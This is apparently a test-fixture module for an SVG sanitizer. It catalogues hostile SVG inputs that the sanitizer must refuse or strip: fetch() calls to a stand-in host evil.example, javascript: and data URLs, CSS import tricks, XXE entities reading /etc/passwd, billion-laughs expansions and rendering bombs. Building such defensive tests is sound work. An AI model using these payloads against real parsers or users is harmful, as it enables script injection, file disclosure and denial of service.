"""Attacks on whoever opens a drawing, by name: what a hostile SVG carries. All of them call for a host named evil.

`ATTACKS` are put inside an svg element, `WHOLE` are files of their own. Those of `REFUSED` must not pass at all, of
all others the harmless part must come through.
"""

import base64
import gzip
import io
import zlib

from PIL import Image

EVIL = "http://evil.example/evil"
NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
RECT = '<rect width="9" height="9"/>'
HARMLESS = '<path id="kept" d="M0 0h9v9z" fill="#123456"/>'


def data_url(text, kind):
    return f"data:{kind};base64,{base64.b64encode(text.encode()).decode()}"


DRAWING = f'<svg {NS}><image href="{EVIL}.png" width="9" height="9"/><script>fetch("{EVIL}.js")</script></svg>'
PAGE = f'<script>fetch("{EVIL}.js")</script><img src="{EVIL}.png">'

# Every spelling of an address that some reader follows, or has followed.
ADDRESSES = {
    "plain": EVIL + ".png",
    "https": "https://evil.example/evil.png",
    "no scheme": "//evil.example/evil.png",
    "three strokes": "///evil.example/evil.png",
    "backward strokes": "\\\\evil.example\\evil.png",
    "mixed strokes": "/\\evil.example/evil.png",
    "capitals": "HTTP://EVIL.EXAMPLE/evil.png",
    "file": "file:///tmp/evil.png",
    "file of a host": "file://evil.example/evil.png",
    "share": "smb://evil.example/evil.png",
    "ftp": "ftp://evil.example/evil.png",
    "name beside it": "evil.png",
    "path": "/evil.png",
    "path upwards": "../../../../../../tmp/evil.png",
    "query only": "?evil",
    "blank before": "  http://evil.example/evil.png",
    "line feed before": "&#10;http://evil.example/evil.png",
    "tab within": "ht&#9;tp://evil.example/evil.png",
    "line feed within": "http:&#10;//evil.example/evil.png",
    "no-break space": "&#160;#a",
    "entity of a letter": "&#104;ttp://evil.example/evil.png",
    "credentials": "http://user:pass@evil.example/evil.png",
    "percent": "%68ttp://evil.example/evil.png",
    "fragment behind": EVIL + ".svg#a",
    "script": "javascript:fetch('" + EVIL + ".js')",
    "script in disguise": "java&#9;script:fetch('" + EVIL + ".js')",
    "script of old": "vbscript:evil",
    "blob": "blob:http://evil.example/evil",
    "resource": "resource://evil/evil.png",
    "about": "about:evil",
    "drawing in data": data_url(DRAWING, "image/svg+xml"),
    "drawing in plain data": "data:image/svg+xml,%3Csvg%20evil",
    "page in data": data_url(PAGE, "text/html"),
    "page in plain data": "data:text/html,evil",
    "script in data": data_url(f'fetch("{EVIL}.js")', "text/javascript"),
    "data of no kind": data_url(DRAWING, ""),
    "xml in data": data_url(DRAWING, "application/xml"),
    "drawing that calls itself a PNG": data_url(DRAWING, "image/png"),
    "damaged picture": "data:image/png;base64,iVBORw0KGgoAevil",
}
CARRIERS = {
    "image": '<image href="{}" width="9" height="9"/>',
    "image of old": '<image xlink:href="{}" width="9" height="9"/>',
    "use": '<use href="{}"/>',
    "filter picture": '<filter id="f"><feImage href="{}"/></filter><rect width="9" height="9" filter="url(#f)"/>',
}
FURTHER_CARRIERS = {
    "gradient": '<linearGradient id="g" href="{}"/>',
    "pattern": '<pattern id="p" xlink:href="{}" width="9" height="9"/>',
    "text path": '<text><textPath href="{}">x</textPath></text>',
    "link": '<a href="{}"><rect width="9" height="9"/></a>',
    "link that pings": '<a href="#a" ping="{}"><rect width="9" height="9"/></a>',
    "script": '<script href="{}"/>',
    "script of old": '<script xlink:href="{}"/>',
    "text reference": '<text><tref xlink:href="{}"/></text>',
    "colour profile": '<color-profile name="c" xlink:href="{}"/>',
    "cursor": '<cursor xlink:href="{}"/>',
    "font": '<font-face><font-face-src><font-face-uri xlink:href="{}"/></font-face-src></font-face>',
    "glyph": '<altGlyph xlink:href="{}">x</altGlyph>',
    "motion": '<rect width="9" height="9"><animateMotion><mpath href="{}"/></animateMotion></rect>',
    "mesh": '<mesh href="{}"/>',
    "hatch": '<hatch href="{}"/>',
    "sound": '<audio src="{}" autoplay=""/>',
    "film": '<video src="{}" poster="{}" autoplay=""/>',
    "frame": '<iframe src="{}"/>',
    "page frame": '<iframe xmlns="http://www.w3.org/1999/xhtml" src="{}"/>',
    "page picture": '<img xmlns="http://www.w3.org/1999/xhtml" src="{}"/>',
    "page sheet": '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{}"/>',
    "page script": '<script xmlns="http://www.w3.org/1999/xhtml" src="{}"/>',
    "page object": '<object xmlns="http://www.w3.org/1999/xhtml" data="{}"/>',
    "page refresh": '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url={}"/>',
    "page form": '<form xmlns="http://www.w3.org/1999/xhtml" action="{}"><input autofocus=""/></form>',
    "embedded": '<embed src="{}"/>',
    "foreign object": '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="{}"/></foreignObject>',
    "base": '<g xml:base="{}"><image href="#a" width="9" height="9"/></g>',
    "base of the page": '<base xmlns="http://www.w3.org/1999/xhtml" href="{}"/>',
    "included": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{}" parse="text"/>',
    "handler": '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" xlink:href="{}"/>',
    "in a desc": '<desc><img xmlns="http://www.w3.org/1999/xhtml" src="{}"/></desc>',
    "in a title": '<title><image href="{}"/></title>',
    "in a switch": '<switch><image href="{}" width="9" height="9"/></switch>',
    "in metadata": '<metadata><image href="{}" width="9" height="9"/></metadata>',
    "in a symbol": '<symbol id="s"><image href="{}" width="9" height="9"/></symbol><use href="#s"/>',
}
PAINTS = {
    "paint": "url({})",
    "quoted": "url('{}')",
    "capitals": "URL({})",
    "blanks": "url(   {}   )",
    "line feed": "url(&#10;{})",
    "no-break space": "url(&#160;#a) url({})",
    "comment": "u/**/rl({}) url(/**/{})",
    "escaped letter": "\\75 rl({})",
    "escaped bracket": "url\\28 {})",
    "escaped line feed": "u\\&#10;rl({})",
    "left open": "url({}",
    "with a fallback": "url(#a) url({})",
    "two": "url(#a), url({})",
    "picture set": "image-set('{}' 1x)",
    "picture set of old": "-webkit-image-set(url({}) 1x)",
    "picture": "image('{}')",
    "source": "src('{}')",
    "fading": "cross-fade(url(#a), '{}')",
    "variable": "var(--x, url({}))",
}
SHEETS = {
    "import": '@import "{}";',
    "import by url": "@import url({});",
    "import behind a charset": '@charset "utf-8";@import "{}";',
    "import in capitals": '@IMPORT "{}";',
    "import in disguise": r'@\69mport "{}";',
    "import in a comment's shade": '@imp/**/ort "{}"; @import/**/"{}";',
    "import left open": '@import "{}',
    "import in a layer": '@import "{}" layer(a);',
    "import in a block": '@media all{{@import "{}";rect{{fill:red}}}}',
    "font": "@font-face{{font-family:x;src:url({})}}text{{font-family:x}}",
    "font with a hint": '@font-face{{font-family:x;src:local("no"),url("{}") format("woff2")}}',
    "namespace": '@namespace svg url("{}");',
    "rule": "rect{{fill:url({})}}",
    "rule behind nonsense": "}}}}]]rect{{fill:url({})}}",
    "rule behind a string": "a{{b:'}}rect{{fill:url({})}}'}}",
    "rule behind an open string": 'a{{b:"&#10;}}rect{{fill:url({})}}',
    "rule in a comment's shade": "/*/rect{{fill:url({})}}/**/rect{{fill:url({})}}",
    "mask": "*{{mask-image:url({})}}",
    "pointer": "svg{{cursor:url({}),auto}}",
    "content": "svg::before{{content:url({})}}",
    "background": "svg{{background:url({})}}",
    "list": "g{{list-style:url({})}}",
    "binding": "rect{{-moz-binding:url({})}}",
    "behaviour": "rect{{behavior:url({})}}",
    "expression": "rect{{width:expression(fetch('{}'))}}",
    "selector": '@document url("{}"){{rect{{fill:red}}}}',
    "variable": ':root{{--x:"{}"}}rect{{fill:image-set(var(--x) 1x)}}',
    "nested": "svg{{rect{{fill:url({})}}}}",
    "CDATA": "<![CDATA[rect{{fill:url({})}}]]>",
    "elements within": "<g>@import</g><g> '{}';</g>",
}
EVENTS = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "onfocusin", "onbegin", "onend", "onrepeat", "onscroll"]
EVENTS += ["onresize", "onunload", "onabort", "onactivate", "onanimationstart", "ontransitionend", "onpointerenter"]
EVENTS += ["onwheel", "onzoom", "oncopy", "ontoggle", "ONLOAD", "OnLoad"]
MOVING = {
    "to a script": '<a id="m" href="#"><animate attributeName="href" to="javascript:evil" dur="1s"/>{}</a>',
    "to a host": '<image width="9" height="9"><animate attributeName="href" values="{1};{1}" dur="1s"/></image>',
    "set": '<image width="9" height="9"><set attributeName="href" to="{1}"/></image>',
    "set of old": '<image width="9" height="9"><set attributeName="xlink:href" to="{1}"/></image>',
    "set from afar": '<image id="i" width="9" height="9"/><set href="#i" attributeName="href" to="{1}"/>',
    "event": '<rect width="9" height="9"><set attributeName="onclick" to="evil()"/></rect>',
    "begun": '<rect width="9" height="9"><animate attributeName="x" onbegin="fetch(\'{1}\')" dur="1s"/></rect>',
    "discard": '<rect width="9" height="9"/><discard begin="0s" onend="evil()"/>',
}
SCRIPTS = {
    "plain": "<script>fetch('{}')</script>",
    "CDATA": "<script><![CDATA[fetch('{}')]]></script>",
    "with a kind": "<script type='text/ecmascript'>fetch('{}')</script>",
    "of another prefix": '<s:script xmlns:s="http://www.w3.org/2000/svg">fetch("{}")</s:script>',
    "of the page": '<script xmlns="http://www.w3.org/1999/xhtml">fetch("{}")</script>',
    "in a group": "<g><g><script>fetch('{}')</script></g></g>",
    "in text": "<text>a<script>fetch('{}')</script>b</text>",
    "in definitions": "<defs><script>fetch('{}')</script></defs>",
    "in a style": "<style><script>fetch('{}')</script></style>",
    "in capitals": "<SCRIPT>fetch('{}')</SCRIPT>",
    "instruction": '<?xml-stylesheet type="text/css" href="{}"?>',
    "comment": "<!--{}-->",
}


def _table():
    for name, address in ADDRESSES.items():
        for carrier, text in CARRIERS.items():
            yield f"{carrier}: {name}", text.format(address)
    for name, text in FURTHER_CARRIERS.items():
        yield f"carrier {name}", text.replace("{}", EVIL + ".png")
    for name, form in PAINTS.items():
        value = form.replace("{}", EVIL + ".svg#a")
        yield f"attribute {name}", f'<rect width="9" height="9" fill="{value}"/>'
        yield f"style {name}", f'<rect width="9" height="9" style="stroke:red;fill:{value}"/>'
    for name, form in SHEETS.items():
        sheet = form.replace("{{", "{").replace("}}", "}").replace("{}", EVIL + ".css")
        yield f"sheet {name}", f"<style>{sheet}</style>{RECT}"
    for name in EVENTS:
        yield f"event {name}", f"<g {name}=\"fetch('{EVIL}')\">{RECT}</g>"
    for name, text in MOVING.items():
        yield f"moving {name}", text.replace("{1}", EVIL + ".png").replace("{}", RECT)
    for name, text in SCRIPTS.items():
        yield f"script {name}", text.replace("{}", EVIL + ".js")


ATTACKS = dict(_table())


def svg(content="", attributes='width="40" height="20"', before=""):
    return f"{before}<svg {NS} {attributes}>{content}</svg>".encode()


def png(width, height):
    """A PNG of any size that holds next to nothing."""
    out = io.BytesIO()
    Image.new("L", (1, 1)).save(out, "PNG")
    head = b"IHDR" + width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes((8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n\0\0\0\r" + head + zlib.crc32(head).to_bytes(4, "big") + out.getvalue()[33:]


def picture(width, height):
    return f'<image width="9" height="9" href="data:image/png;base64,{base64.b64encode(png(width, height)).decode()}"/>'


def tens(link, levels=9, first='<g id="l0"><rect width="1" height="1"/></g>', last='<use href="#l{}"/>'):
    """Each level shows the one below ten times."""
    groups = [f'<g id="l{n}">{link.format(n - 1) * 10}</g>' for n in range(1, levels)]
    return first + "".join(groups) + last.format(levels - 1)


def masks(link, kind="mask", levels=9, extra=""):
    """Masks of masks, each bearing ten of the next, as `link` says."""
    shapes = (link.format(n - 1) * 10 if n else RECT for n in range(levels))
    return extra + "".join(f'<{kind} id="l{n}" width="9" height="9">{one}</{kind}>' for n, one in enumerate(shapes))


ENTITY = "<!DOCTYPE svg [<!ENTITY a {}>]>"
MEGABYTE = "x" * 1_000_000
LEVELS = range(9)
BIG = '<rect width="9" height="9" {}/>'


def row(form, levels=LEVELS):
    """`form` once per level, with its number for N and the one below for M."""
    return "".join(form.replace("N", str(n)).replace("M", str(n - 1)) for n in levels)


_BY_CLASS = BIG.format('class="c{}"')
_TAGS = ("rect", "circle", "path", "line", "ellipse", "polygon", "polyline")
_BY_TAG = "<style>" + "".join(f"{tag}{{mask:url(#l{n})}}" for n, tag in enumerate(_TAGS)) + "</style>"
_BY_TAG += "".join(f'<mask id="l{n}">{f"<{tag}/>" * 10}</mask>' for n, tag in enumerate(("g", *_TAGS[:-1])))

# What multiplies, hides files behind entities, or is no XML: none of it may pass.
REFUSED = {
    "use of use": svg(tens('<use href="#l{}"/>')),
    "use of old": svg(tens('<use xlink:href="#l{}"/>')),
    "use with percent": svg(tens('<use href="#%6C{}"/>')),
    "use with blanks": svg(tens('<use href="  #l{}  "/>')),
    "mask attributes": svg(masks(BIG.format('mask="url(#l{})"'))),
    "mask in capitals": svg(masks(BIG.format("mask=\"URL( '#l{}' )\""))),
    "mask in style": svg(masks(BIG.format('style="mask:url(#l{})"'))),
    "mask with percent": svg(masks(BIG.format('mask="url(#%6c{})"'))),
    "mask by class": svg("<style>" + row(".cN{mask:url(#lN)}") + "</style>" + masks(_BY_CLASS)),
    "mask by class in a medium": svg("<style>@media all{" + row(".cN{mask:url(#lN)}") + "}</style>" + masks(_BY_CLASS)),
    "mask by class and more": svg(
        "<style>" + row("a, svg > mask [width='9'] rect.cN:first-child{x:y;mask:url( '#lN' )}") + "</style>" + masks(_BY_CLASS)
    ),
    "mask by class behind a bracket": svg("<style>" + row(".x{a:b(}.cN{mask:url(#lN)}.x{a:)}") + row(".cN{mask:url(#lN)}") + "</style>" + masks(_BY_CLASS)),
    "mask by id": svg("<style>" + row("#rN{mask:url(#lN)}") + "</style>" + row(f'<mask id="lN">{"""<rect id="rM"/>""" * 10}</mask>')),
    "mask by tag": svg(_BY_TAG + "<polyline/>" * 10),
    "mask by any": svg("<style>:not(g){mask:url(#a)}</style><g id='a'>" + RECT * 1000 + "</g>" + RECT * 2000),
    "mask asked for": svg('<g mask="url(#a)">' + BIG.format('mask="inherit"') * 2000 + f'</g><g id="a">{RECT * 1000}</g>'),
    "clip": svg(masks(BIG.format('clip-path="url(#l{})"'), "clipPath")),
    "pattern": svg(masks(BIG.format('fill="url(#l{})"'), "pattern")),
    "pattern handed down": svg(row(f'<pattern id="lN" width="9" height="9"><g fill="url(#lM)">{RECT * 10}</g></pattern>')),
    "pattern handed down by use": svg(
        f'<g id="many">{RECT * 10}</g>' + row('<pattern id="lN"><use href="#many" stroke="url(#lM)"/></pattern>')
    ),
    "marker": svg(row(f'<marker id="lN"><path d="M0 0{"h1" * 40}" marker-mid="url(#lM)"/></marker>')),
    "filter picture": svg(
        row('<filter id="lN"><feImage href="#gM"/></filter>') + row(f'<g id="gN">{"""<rect filter="url(#lN)"/>""" * 10}</g>')
    ),
    "the first of an id": svg(tens('<use href="#l{}"/>') + row('<g id="lN"/>', range(8))),
    "the last of an id": svg(row('<g id="lN"/>', range(8)) + tens('<use href="#l{}"/>')),
    "circle in a sheet": svg('<style>rect{mask:url(#m)}</style><mask id="m"><rect/></mask>'),
    "long chain": svg(row('<g id="aM"><use href="#aN"/></g>', range(5000))),
    "deep groups": svg("<g>" * 5000 + "</g>" * 5000),
    "too many parts": svg("<g/>" * 1_000_001),
    "billion laughs": b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>' + svg("&b;"),
    "laughs behind references": ENTITY.format('"&#38;b;"').encode() + svg("&a;"),
    "entity of a file": ENTITY.format('SYSTEM "file:///etc/passwd"').encode() + svg("&a;"),
    "entity of a host": ENTITY.format(f'SYSTEM "{EVIL}"').encode() + svg("&a;"),
    "entity of the public": ENTITY.format(f'PUBLIC "x" "{EVIL}"').encode() + svg("&a;"),
    "entity of data": f'<!DOCTYPE svg [<!NOTATION gif SYSTEM "x"><!ENTITY a SYSTEM "{EVIL}" NDATA gif>]>'.encode() + svg("&a;"),
    "parameter entity": f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{EVIL}">%a;]>'.encode() + svg(),
    "quadratic entity": ENTITY.format('"' + "x" * 9000 + '"').encode() + svg("&a;" * 9000),
    "entity unknown": svg("&evil;"),
    "endless namespace": svg("<a:g/>" * 9, f'xmlns:a="{MEGABYTE}"'),
    "packed, cut short": gzip.compress(svg(RECT))[:-5],
    "packed large": gzip.compress(svg("<!--" + "x" * 33_000_000 + "-->")),
    "of another root": f"<html {NS}>{RECT}</html>".encode(),
    "cut short": svg(RECT)[:-3],
    "two roots": svg() + svg(),
    "two attributes": b'<svg xmlns="http://www.w3.org/2000/svg" width="1" width="2"/>',
    "in a cipher": b'<?xml version="1.0" encoding="rot13"?>' + svg(),
    "in UTF-7": b'<?xml version="1.0" encoding="utf-7"?>' + svg(),
    "broken letters": svg() + b"\xff",
}

# Whole files that are repaired, not refused.
WHOLE = {
    "style sheet instruction": svg(HARMLESS, before=f'<?xml-stylesheet href="{EVIL}.css" type="text/css"?>'),
    "transforming instruction": svg(HARMLESS, before=f'<?xml-stylesheet href="{EVIL}.xsl" type="text/xsl"?>'),
    "document type elsewhere": svg(HARMLESS, before=f'<!DOCTYPE svg SYSTEM "{EVIL}.dtd">'),
    "attributes by default": svg(
        HARMLESS, before='<!DOCTYPE svg [<!ATTLIST svg onload CDATA "evil()"><!ATTLIST path href CDATA "evil">]>'
    ),
    "entity that breaks out": svg(f'<g id="&a;"/>{HARMLESS}', before=ENTITY.format("'x\" onload=\"y()'")),
    "entity with a script": svg(f"&a;{HARMLESS}", before=ENTITY.format("'<script>evil()</script>'")),
    "entity in an address": svg(f'<image href="&a;/x.png"/>{HARMLESS}', before=ENTITY.format(f"'{EVIL}'")),
    "event of the root": svg(HARMLESS, 'width="40" height="20" onload="evil()" onzoom="evil()"'),
    "base of the root": svg(HARMLESS, f'width="40" height="20" xml:base="{EVIL}/"'),
    "script of the root": svg(HARMLESS, 'width="40" height="20" contentScriptType="evil"').replace(b"evil", b"text/x"),
    "UTF-16": ("\ufeff" + svg(f'<script>fetch("{EVIL}")</script>{HARMLESS}').decode()).encode("utf-16-le"),
    "packed": gzip.compress(svg(f'<script>fetch("{EVIL}")</script>{HARMLESS}')),
    "wide picture": svg(picture(60_000, 60_000) + HARMLESS),
    "many pictures": svg("".join(picture(7000, 7000 + n) for n in range(9)) + HARMLESS),
    "octaves": svg('<filter id="f"><feTurbulence baseFrequency=".1" numOctaves="2147483647"/></filter>'
                   f'<rect width="40" height="20" filter="url(#f)"/>{HARMLESS}'),
    "wide neighbourhood": svg('<filter id="f"><feMorphology operator="dilate" radius="99999999"/></filter>'
                              f'<rect width="40" height="20" filter="url(#f)"/>{HARMLESS}'),
    "far blur": svg('<filter id="f" x="-1e6" y="-1e6" width="1e7" height="1e7"><feGaussianBlur stdDeviation="1e6"/></filter>'
                    f'<rect width="40" height="20" filter="url(#f)"/>{HARMLESS}'),
    "fine dashes": svg(f'<path d="M0 0H1e9" stroke="red" stroke-dasharray="1e-6"/>{HARMLESS}'),
    "fine pattern": svg('<pattern id="p" width="1e-6" height="1e-6" patternUnits="userSpaceOnUse"><rect width="1" height="1"/>'
                        f'</pattern><rect width="40" height="20" fill="url(#p)"/>{HARMLESS}'),
    "large letters": svg(f'<text font-size="1e9">x</text>{HARMLESS}'),
    "far numbers": svg(f'<path d="M-1e38 -1e38L1e38 1e38z" stroke="red" stroke-width="1e38"/>{HARMLESS}'),
    "kernel": svg('<filter id="f"><feConvolveMatrix order="99999" kernelMatrix="1"/></filter>'
                  f'<rect width="40" height="20" filter="url(#f)"/>{HARMLESS}'),
    "twisted circle": svg(
        row(f'<g id="aN"><use href="#bN"/><use href="#bM"/></g><g id="bN">{"""<use href="#aN"/>""" * 12}</g>') + HARMLESS
    ),
    "circle of use": svg(f'<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>{HARMLESS}'),
    "circle of masks": svg(f'<mask id="a"><rect width="9" height="9" mask="url(#a)"/></mask><rect mask="url(#a)"/>{HARMLESS}'),
    "circle of patterns": svg(
        f'<pattern id="a" width="9" height="9"><rect width="9" height="9" fill="url(#a)"/></pattern><rect fill="url(#a)"/>{HARMLESS}'
    ),
    "circle handed down": svg(f'<g fill="url(#a)"><pattern id="a" width="9" height="9">{RECT}</pattern>{RECT}</g>{HARMLESS}'),
    "circle of filters": svg(f'<filter id="f"><feImage href="#g"/></filter><g id="g" filter="url(#f)">{RECT}</g>{HARMLESS}'),
}  # fmt: skip
